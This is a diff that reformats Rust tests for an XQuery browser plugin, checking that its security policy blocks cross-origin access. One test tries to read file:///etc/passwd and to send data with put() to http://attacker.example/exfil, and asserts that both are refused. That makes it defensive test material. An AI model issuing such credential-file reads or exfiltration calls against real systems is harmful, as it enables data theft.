@@ -22,8 +22,10 @@ fn plugin_with_frames() -> Plugin {
             .browser
             .create_frame(top, "crosssite", "https://bank.example/account");
         drop(host);
-        for (w, content) in [(same, "<html><body>public</body></html>"),
-                             (cross, "<html><body>balance: 1000</body></html>")] {
+        for (w, content) in [
+            (same, "<html><body>public</body></html>"),
+            (cross, "<html><body>balance: 1000</body></html>"),
+        ] {
             let doc = xqib_dom::parse_document(content).unwrap();
             let id = p.store.borrow_mut().add_document(doc, None);
             p.host.borrow_mut().browser.set_document(w, id);
@@ -103,7 +105,9 @@ fn fn_doc_and_fn_put_blocked() {
     let mut p = plugin_with_frames();
     let e = p.eval("doc('file:///etc/passwd')").unwrap_err();
     assert_eq!(e.code, "XQIB0001");
-    let e = p.eval("put(<x/>, 'http://attacker.example/exfil')").unwrap_err();
+    let e = p
+        .eval("put(<x/>, 'http://attacker.example/exfil')")
+        .unwrap_err();
     assert_eq!(e.code, "XQIB0001");
 }
 
@@ -111,11 +115,17 @@ fn fn_doc_and_fn_put_blocked() {
 fn fetched_documents_are_reachable_after_fetch() {
     // the browser profile allows exactly what the plug-in provided
     let mut p = plugin_with_frames();
-    p.host.borrow_mut().net.register("http://api.xqib.org/", 5, |_| {
-        Response::ok("<data><v>42</v></data>")
-    });
-    p.eval("browser:httpGet('http://api.xqib.org/data.xml')").unwrap();
-    let out = p.eval("string(doc('http://api.xqib.org/data.xml')//v)").unwrap();
+    p.host
+        .borrow_mut()
+        .net
+        .register("http://api.xqib.org/", 5, |_| {
+            Response::ok("<data><v>42</v></data>")
+        });
+    p.eval("browser:httpGet('http://api.xqib.org/data.xml')")
+        .unwrap();
+    let out = p
+        .eval("string(doc('http://api.xqib.org/data.xml')//v)")
+        .unwrap();
     assert_eq!(p.render(&out), "42");
 }
 
@@ -125,15 +135,23 @@ fn window_name_search_respects_policy_for_nested_frames() {
     {
         let mut host = p.host.borrow_mut();
         let top = host.browser.top();
-        let mid = host.browser.create_frame(top, "mid", "http://www.xqib.org/a");
-        host.browser.create_frame(mid, "deep", "http://www.xqib.org/b");
-        host.browser.create_frame(mid, "foreign", "http://evil.example/");
+        let mid = host
+            .browser
+            .create_frame(top, "mid", "http://www.xqib.org/a");
+        host.browser
+            .create_frame(mid, "deep", "http://www.xqib.org/b");
+        host.browser
+            .create_frame(mid, "foreign", "http://evil.example/");
     }
     p.load_page("<html><body/></html>").unwrap();
     // the paper's `browser:top()//window[@name="myframe"]` deep search
-    let out = p.eval("count(browser:top()//window[@name='deep'])").unwrap();
+    let out = p
+        .eval("count(browser:top()//window[@name='deep'])")
+        .unwrap();
     assert_eq!(p.render(&out), "1");
-    let out = p.eval("count(browser:top()//window[@name='foreign'])").unwrap();
+    let out = p
+        .eval("count(browser:top()//window[@name='foreign'])")
+        .unwrap();
     assert_eq!(p.render(&out), "0");
     let out = p.eval("count(browser:top()//window)").unwrap();
     assert_eq!(p.render(&out), "3", "all frames materialise, opaque or not");
